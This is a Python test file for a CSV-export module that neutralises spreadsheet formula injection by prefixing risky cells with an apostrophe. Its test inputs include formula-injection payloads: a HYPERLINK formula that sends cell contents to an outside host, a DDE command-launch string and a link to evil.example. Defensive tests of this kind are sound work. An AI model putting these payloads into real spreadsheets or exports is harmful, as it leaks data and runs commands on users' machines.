"""Spreadsheet-safe CSV: formula-like text gets an apostrophe, numbers stay numbers, every export uses it."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from epu_mapper import cli
from epu_mapper.csvsafe import csv_bytes, csv_text, formula_prefix, safe_cell, write_csv
from epu_mapper.units import validate_units

PACKAGE = Path(__file__).resolve().parent.parent / "epu_mapper"
FIX = Path(__file__).parent / "fixtures" / "units"

HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(A1:A9)",
           "\tTAB", "\r=1", "=1", "-", "+", "@", "-inf", "+44 20 7188 7188", "-1-1", "=", "- bullet"]
NUMBERS = ["-3", "+1.5", "-2e-3", "-.5", "12", "0.25", "-0", "+7E+2"]
PLAIN = ["Early Pregnancy Unit", "'already quoted", "a=b", " =not first", "", "Ysbyty Gwynedd ŵ"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_gets_an_apostrophe(text):
    assert formula_prefix(text)
    assert safe_cell(text) == ("'" + text).replace("\r", "\n")


@pytest.mark.parametrize("text", NUMBERS + PLAIN)
def test_numbers_and_plain_text_are_unchanged(text):
    assert not formula_prefix(text)
    assert safe_cell(text) == text


def test_frame_round_trip_keeps_numbers_and_neutralises_text():
    df = pd.DataFrame({"unit_name": HOSTILE + ["ok"], "minutes": np.arange(len(HOSTILE) + 1) - 3.5,
                       "count": np.arange(len(HOSTILE) + 1) - 5, "flag": [True] * (len(HOSTILE) + 1)})
    df.loc[0, "minutes"] = np.nan
    text = csv_text(df)
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["unit_name", "minutes", "count", "flag"]
    for (name, minutes, count, _flag), original in zip(rows[1:], HOSTILE + ["ok"], strict=True):
        assert name == ("'" + original if original != "ok" else "ok").replace("\r", "\n")
        assert minutes == "" or float(minutes) < 100  # written as a number, no apostrophe
        assert re.fullmatch(r"-?\d+", count)  # negative integers stay numbers
    assert csv_bytes(df) == text.encode("utf-8")
    # every cell that would start a formula is neutralised
    for row in rows[1:]:
        for cell in row:
            assert not formula_prefix(cell) or re.fullmatch(r"[+-]?[\d.eE+-]+", cell)


def test_write_csv_to_a_path_is_atomic_and_safe(tmp_path):
    out = tmp_path / "x.csv"
    write_csv(pd.DataFrame({"a": ["=1", "b"]}), out)
    assert out.read_text(encoding="utf-8") == "a\n'=1\nb\n"
    assert [p.name for p in tmp_path.iterdir()] == ["x.csv"]  # no temporary file left


def test_no_raw_to_csv_in_the_product():
    """Every CSV export goes through epu_mapper.csvsafe (the directory writer and the validator's
    in-memory round trip write the directory itself, which is an input file, not an export)."""
    allowed = {"csvsafe.py", "convert.py", "units.py"}
    offenders = []
    for path in [*PACKAGE.rglob("*.py"), PACKAGE.parent / "app.py"]:
        if path.name in allowed:
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(", text):
            offenders.append(str(path.relative_to(PACKAGE.parent)))
    assert offenders == []


def test_validator_warns_about_formula_names_but_keeps_the_row(tmp_path, capsys):
    base = pd.read_csv(FIX / "valid_small.csv", dtype=str, keep_default_na=False)
    base.loc[0, "unit_name"] = "=HYPERLINK(\"http://evil.example\",\"EPU\")"
    base.loc[1, "hospital"] = "@SUM(A1)"
    path = tmp_path / "units.csv"
    path.write_text(base.to_csv(index=False), encoding="utf-8")
    df, problems = validate_units(path)
    assert problems == [] and len(df) == 3
    warns = df.attrs["warnings"]
    assert [(w.line, w.column) for w in warns] == [(2, "unit_name"), (3, "hospital")]
    rc = cli.main(["units", "validate", str(path)])
    err = capsys.readouterr().err
    assert rc == 0
    assert f"{path}:2: unit_name: warning: begins with '='" in err
